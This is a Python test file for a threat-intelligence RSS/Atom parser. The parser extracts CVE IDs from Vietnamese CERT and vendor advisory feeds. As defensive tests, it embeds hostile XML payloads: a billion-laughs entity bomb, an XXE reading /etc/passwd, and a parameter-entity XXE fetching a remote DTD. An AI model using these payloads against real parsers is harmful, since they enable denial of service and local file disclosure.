from __future__ import annotations

import contextlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from haidang.engines.intel import rss

SAMPLES = Path(__file__).parent / "samples"
NCSC = SAMPLES / "ncsc_canh_bao_rss.xml"
VENDOR = SAMPLES / "vendor_psirt_atom.xml"


def test_it_reads_a_vietnamese_cert_rss_feed_and_maps_prose_to_cve_ids() -> None:
    items = rss.parse_feed(NCSC.read_bytes(), source="ncsc")
    assert len(items) == 4
    first = items[0]
    assert first.title.startswith("Cảnh báo lỗ hổng bảo mật nghiêm trọng CVE-2024-3400")
    assert first.link == "https://ncsc.gov.vn/canh-bao/canh-bao-lo-hong-cve-2024-3400-pan-os"
    assert first.published == "2024-04-12T10:30:00+07:00"
    assert first.cve_ids == ("CVE-2024-3400",)
    assert first.source == "ncsc"
    assert "<strong>" not in first.summary
    assert "alert(1)" not in first.summary
    assert "tường lửa" in first.summary


def test_it_decodes_escaped_html_upper_cases_and_deduplicates_cve_ids() -> None:
    fortios = rss.parse_feed(NCSC.read_bytes())[1]
    assert fortios.cve_ids == ("CVE-2024-21762", "CVE-2022-42475")
    assert "&lt;" not in fortios.summary
    assert "<p>" not in fortios.summary


def test_it_finds_no_cve_in_an_item_without_one_and_rejects_look_alikes() -> None:
    items = rss.parse_feed(NCSC.read_bytes())
    assert items[2].cve_ids == ()
    assert items[3].cve_ids == ("CVE-2023-36033", "CVE-2023-36036", "CVE-2023-36025", "CVE-2023-4966")


def test_it_reads_a_vendor_atom_feed_with_html_and_xhtml_content() -> None:
    entries = rss.parse_feed(VENDOR.read_bytes(), source="paloalto")
    assert [e.cve_ids for e in entries] == [("CVE-2024-0012", "CVE-2024-9474"), ("CVE-2024-3400",), ()]
    assert entries[0].link == "https://security.paloaltonetworks.com/CVE-2024-0012"
    assert entries[0].published == "2024-11-18T17:00:00+00:00"
    assert entries[1].summary.startswith("A command injection as a result of arbitrary file creation")
    assert entries[2].published == "2024-10-09T16:00:00+00:00"  # no <published>: <updated>
    assert entries[2].link == ""  # javascript: links are not kept


@pytest.mark.parametrize(
    "text",
    ["CVE-2024-123", "XCVE-2024-12345", "CVE-2024-١٢٣٤٥", "CVE_2024_12345", "CVE-2024-12345" + "6" * 20],
)
def test_it_matches_cve_ids_strictly(text: str) -> None:
    assert rss.cve_ids_in(text) == ()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
]>
<rss version="2.0"><channel><item><title>&g; CVE-2024-3400</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>CVE-2024-3400 &xxe;</title></item></channel></rss>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, XXE_PARAMETER], ids=["billion-laughs", "xxe", "xxe-param"])
def test_it_refuses_entity_payloads(payload: bytes) -> None:
    with pytest.raises(rss.FeedError):
        rss.parse_feed(payload)


def test_it_reads_no_local_file_even_if_an_entity_slipped_through() -> None:
    try:
        items = rss.parse_feed(XXE)
    except rss.FeedError:
        return
    assert all("root:" not in item.title for item in items)


def test_it_accepts_a_plain_doctype_without_entities() -> None:
    data = b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    data += b"<rss version='0.91'><channel><item><title>CVE-2024-3400</title></item></channel></rss>"
    assert rss.parse_feed(data)[0].cve_ids == ("CVE-2024-3400",)


@pytest.mark.parametrize(
    "data", [b"", b"<html><body>hi</body></html>", b"<feed><entry/></feed>", b"\x00\x01", b"<rss>" * 10]
)
def test_it_refuses_what_is_not_a_feed(data: bytes) -> None:
    with pytest.raises(rss.FeedError):
        rss.parse_feed(data)


def test_it_refuses_a_feed_over_the_size_cap() -> None:
    with pytest.raises(rss.FeedError, match="larger than"):
        rss.parse_feed(b" " * (rss.MAX_FEED_BYTES + 1))


@settings(max_examples=300)
@given(data=st.binary(max_size=2000))
def test_it_never_raises_anything_but_feed_error_on_random_bytes(data: bytes) -> None:
    with contextlib.suppress(rss.FeedError):
        rss.parse_feed(data)


_markup = st.lists(
    st.sampled_from(
        ["<p>", "</p>", "<b>", "&amp;", "&#x1F600;", "&bogus;", "<![CDATA[", "]]>", "<script>", "CVE-2024-3400"]
    )
    | st.text(max_size=10),
    max_size=20,
).map("".join)


@given(title=_markup, body=_markup)
def test_it_survives_random_markup_inside_a_valid_feed(title: str, body: str) -> None:
    from xml.sax.saxutils import escape

    item = f"<item><title>{escape(title)}</title><description>{escape(body)}</description></item>"
    data = f"<rss version='2.0'><channel>{item}</channel></rss>"
    try:
        items = rss.parse_feed(data.encode())
    except rss.FeedError:
        return  # e.g. control characters that XML forbids
    assert len(items) == 1
